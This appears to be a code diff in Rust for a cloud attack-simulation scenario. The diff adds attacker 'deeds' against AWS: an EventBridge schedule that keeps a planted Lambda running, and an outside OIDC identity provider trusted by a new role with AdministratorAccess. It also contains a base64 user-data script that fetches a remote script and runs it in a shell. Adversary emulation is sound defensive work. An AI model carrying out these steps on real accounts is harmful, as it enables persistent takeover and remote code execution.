@@ -4,13 +4,16 @@ use std::future::Future;
 use std::pin::Pin;
 
 use aws_sdk_ec2::types as ec2;
+use aws_sdk_eventbridge::types as events;
 use aws_sdk_lambda::primitives::Blob;
 use aws_sdk_lambda::types as lambda;
 
-use super::{ATTACKER_IP, Attacker, BACKDOOR, DROP_ACCOUNT, FAR_REGION, OWN_FUNCTION, OWN_USER};
+use super::{ATTACKER_IP, Attacker, BACKDOOR, DROP_ACCOUNT, FAR_REGION, OWN_FUNCTION, OWN_ROLE, OWN_RULE, OWN_USER};
 use crate::scenario::means::{Means, REGION};
 
 const KEY_PAIR: &str = "k";
+/// The attacker's own identity provider.
+const PROVIDER: &str = "id.example.org";
 const PASSWORD: &str = "Tr0ub4dor&3-and-more";
 const PUBLIC_KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKeyhunterKeyhunterKeyhunterKeyhunter k";
 const USER_DATA: &str = "IyEvYmluL3NoCmN1cmwgLXMgaHR0cHM6Ly9leGFtcGxlLm9yZy94IHwgc2gK";
@@ -23,7 +26,7 @@ pub(in crate::scenario) type Deed<'a> = Pin<Box<dyn Future<Output = ()> + Send +
 
 impl Attacker {
     /// How many deeds there are.
-    pub(in crate::scenario) const DEEDS: usize = 9;
+    pub(in crate::scenario) const DEEDS: usize = 11;
 
     /// The deed of this number; nothing for one that there is not.
     pub(in crate::scenario) fn deed(&mut self, number: usize) -> Deed<'_> {
@@ -32,11 +35,13 @@ impl Attacker {
             1 => Box::pin(self.change_trust()),
             2 => Box::pin(self.make_function()),
             3 => Box::pin(self.open_url()),
-            4 => Box::pin(self.open_door()),
-            5 => Box::pin(self.run_instance()),
-            6 => Box::pin(self.read_secrets()),
-            7 => Box::pin(self.share_snapshot()),
-            8 => Box::pin(self.stop_watching()),
+            4 => Box::pin(self.schedule()),
+            5 => Box::pin(self.vouch()),
+            6 => Box::pin(self.open_door()),
+            7 => Box::pin(self.run_instance()),
+            8 => Box::pin(self.read_secrets()),
+            9 => Box::pin(self.share_snapshot()),
+            10 => Box::pin(self.stop_watching()),
             _ => Box::pin(std::future::ready(())),
         }
     }
@@ -114,6 +119,47 @@ impl Attacker {
         let url = lambda.create_function_url_config().function_name(OWN_FUNCTION).auth_type(none).send().await;
         let call = format!("aws lambda create-function-url-config --function-name {OWN_FUNCTION} --auth-type NONE");
         self.show(&call, &url, |url| url.function_url().to_owned());
+    }
+
+    /// Has the function called every five minutes, whatever becomes of the key.
+    async fn schedule(&mut self) {
+        let client = self.key.events(REGION);
+        let put = client.put_rule().name(OWN_RULE).schedule_expression("rate(5 minutes)").send().await;
+        let call = format!("aws events put-rule --name {OWN_RULE} --schedule-expression 'rate(5 minutes)'");
+        self.show(&call, &put, |put| put.rule_arn().unwrap_or_default().to_owned());
+        let rule_arn = put.ok().and_then(|put| put.rule_arn).unwrap_or_default();
+        let allowed = self.key.lambda(REGION).add_permission().function_name(OWN_FUNCTION).statement_id("tick");
+        let allowed = allowed.action("lambda:InvokeFunction").principal("events.amazonaws.com").source_arn(rule_arn);
+        let allowed = allowed.send().await;
+        let call =
+            format!("aws lambda add-permission --function-name {OWN_FUNCTION} --principal events.amazonaws.com …");
+        self.show(&call, &allowed, |_| "the rule may call it".to_owned());
+        let arn = format!("arn:aws:lambda:{REGION}:{}:function:{OWN_FUNCTION}", self.account.id());
+        let Ok(target) = events::Target::builder().id("1").arn(&arn).build() else { return };
+        let aimed = client.put_targets().rule(OWN_RULE).targets(target).send().await;
+        let call = format!("aws events put-targets --rule {OWN_RULE} --targets Id=1,Arn={arn}");
+        self.show(&call, &aimed, |_| "called every five minutes".to_owned());
+    }
+
+    /// Makes an identity provider, and a role for whoever it vouches for.
+    async fn vouch(&mut self) {
+        let iam = self.key.iam();
+        let provider = iam.create_open_id_connect_provider().url(format!("https://{PROVIDER}"));
+        let provider = provider.client_id_list("sts.amazonaws.com").send().await;
+        let call = format!("aws iam create-open-id-connect-provider --url https://{PROVIDER} …");
+        self.show(&call, &provider, |made| made.open_id_connect_provider_arn().unwrap_or_default().to_owned());
+        let arn = provider.ok().and_then(|made| made.open_id_connect_provider_arn).unwrap_or_default();
+        let trust = format!(
+            r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Principal":{{"Federated":"{arn}"}},"Action":"sts:AssumeRoleWithWebIdentity"}}]}}"#
+        );
+        let role = iam.create_role().role_name(OWN_ROLE).assume_role_policy_document(trust).send().await;
+        let call =
+            format!("aws iam create-role --role-name {OWN_ROLE} --assume-role-policy-document file://{PROVIDER}.json");
+        self.show(&call, &role, |_| format!("trusts {PROVIDER}"));
+        let admin = "arn:aws:iam::aws:policy/AdministratorAccess";
+        let given = iam.attach_role_policy().role_name(OWN_ROLE).policy_arn(admin).send().await;
+        let call = format!("aws iam attach-role-policy --role-name {OWN_ROLE} --policy-arn {admin}");
+        self.show(&call, &given, |_| "attached".to_owned());
     }
 
     async fn open_door(&mut self) {
